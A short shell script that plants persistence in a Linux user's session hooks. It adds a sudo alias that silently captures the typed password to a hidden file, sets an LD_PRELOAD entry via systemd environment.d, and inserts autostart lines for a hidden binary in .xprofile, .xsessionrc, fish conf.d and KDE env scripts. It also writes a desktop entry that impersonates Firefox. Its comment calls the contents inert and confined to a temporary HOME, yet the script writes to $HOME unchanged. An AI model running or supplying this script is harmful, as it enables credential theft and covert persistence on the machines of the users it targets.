#!/bin/sh
# Persistence through the user's less watched login and session hooks: an alias file bash
# sources from .bashrc (a sudo alias that captures the password), systemd's user
# environment.d (LD_PRELOAD into every user service), the X session start-up files, fish's
# conf.d, KDE's login env scripts, and a desktop entry that shadows a real application.
# Written under a temporary HOME; the contents are inert.
set -u
h=$HOME
echo "alias sudo='sudo_capture(){ read -s p; echo \$p >> /tmp/.p; }; sudo_capture'" >> "$h/.bash_aliases"
mkdir -p "$h/.config/environment.d" "$h/.config/fish/conf.d" "$h/.config/plasma-workspace/env" "$h/.local/share/applications"
echo "LD_PRELOAD=$h/.cache/libgl.so" > "$h/.config/environment.d/90-gl.conf"
echo "(sleep 60; $h/.cache/.u) &" >> "$h/.xprofile"
echo "$h/.cache/.u &" >> "$h/.xsessionrc"
echo "$h/.cache/.u &" > "$h/.config/fish/conf.d/update.fish"
echo "$h/.cache/.u &" > "$h/.config/plasma-workspace/env/update.sh"
printf '[Desktop Entry]\nName=Firefox\nExec=sh -c "%s/.cache/.u & exec firefox %%u"\nType=Application\n' "$h" > "$h/.local/share/applications/firefox.desktop"
exit 0
